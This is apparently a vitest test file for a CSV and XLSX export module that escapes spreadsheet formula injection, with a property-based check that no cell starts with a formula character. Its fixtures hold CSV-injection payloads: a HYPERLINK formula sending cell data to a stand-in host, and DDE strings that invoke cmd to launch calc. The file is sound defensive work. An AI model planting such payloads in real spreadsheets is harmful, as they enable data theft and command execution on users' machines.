import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvText, neutraliseFormula, sheetCell, spreadsheetText } from './index.js';

/** The payloads of OWASP's CSV-injection page and of the hardening report. */
const FORMULA_PAYLOADS = ['=HYPERLINK("http://x.test/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', 'x;=1+1', '\t=1+1', '\r=1+1'];

describe('csvCell', () => {
  it.each([
    ['Main Campus', 'Main Campus'],
    ['Santos, Maria', '"Santos, Maria"'],
    ['He said "hi"', '"He said ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=HYPERLINK("x")', `"'=HYPERLINK(""x"")"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["x;=cmd|' /C calc'!A0", `"x;'=cmd|' /C calc'!A0"`],
    ['x;=1+1', `"x;'=1+1"`],
    ['Room 1, =1+1', `"Room 1, '=1+1"`],
    ['  =1+1', `"  '=1+1"`],
    ['a;b', '"a;b"'],
    ['\tTAB', `"'\tTAB"`],
    ['\rCR', `"'\rCR"`],
    ['1,-5', '"1,-5"'],
    ['-12.5', '-12.5'],
    [-12.5, '-12.5'],
    ['+63 917 555 0142', `"'+63 917 555 0142"`],
    ['', ''],
    [null, ''],
    [undefined, ''],
    [true, 'true'],
    [['a', '=b'], `"a; '=b"`],
    [new Date('2026-11-28T01:02:03.000Z'), '2026-11-28T01:02:03.000Z'],
  ])('writes %j as %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('never lets a cell or a part after a separator start with a formula character', () => {
    fc.assert(
      fc.property(fc.string(), (value) => {
        const cell = csvCell(value);
        const inner = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
        for (const part of inner.split(/[,;]/)) {
          const rest = part.replace(/^ +/, '');
          if (/^[=+\-@\t\r\n]/.test(rest)) expect(rest).toMatch(/^[-+]?\d+(\.\d+)?$/);
        }
      }),
    );
  });
});

describe('csvLine and csvText', () => {
  it('joins cells with commas and lines with CRLF', () => {
    expect(csvLine(['a', 1, null, '=1'])).toBe(`a,1,,"'=1"`);
    expect(csvText([['h1', 'h2'], ['x', '@y']])).toBe(`h1,h2\r\nx,"'@y"\r\n`);
  });
});

describe('sheetCell', () => {
  // An XLSX cell is one string, never split on `;` or `,`, so only its start can make it a formula.
  it.each(FORMULA_PAYLOADS.filter((p) => !p.startsWith('x;')))('keeps %j as text in an XLSX cell', (payload) => {
    const cell = sheetCell(payload);
    expect(typeof cell).toBe('string');
    expect(String(cell).replace(/^ */, '')).toMatch(/^'/);
  });

  it('leaves numbers, booleans, dates and plain text as they are', () => {
    const date = new Date('2026-11-28T00:00:00.000Z');
    expect([sheetCell(-3), sheetCell(true), sheetCell(date), sheetCell('Main Campus'), sheetCell(null), sheetCell('-12.5')]).toEqual([-3, true, date, 'Main Campus', null, '-12.5']);
  });
});

describe('neutraliseFormula and spreadsheetText', () => {
  it('puts a quote before a formula start only', () => {
    expect(neutraliseFormula('=1')).toBe("'=1");
    expect(neutraliseFormula('a=1')).toBe('a=1');
    expect(sheetCell('x;=1+1')).toBe('x;=1+1');
    expect(spreadsheetText({ a: 1 })).toBe('{"a":1}');
  });
});
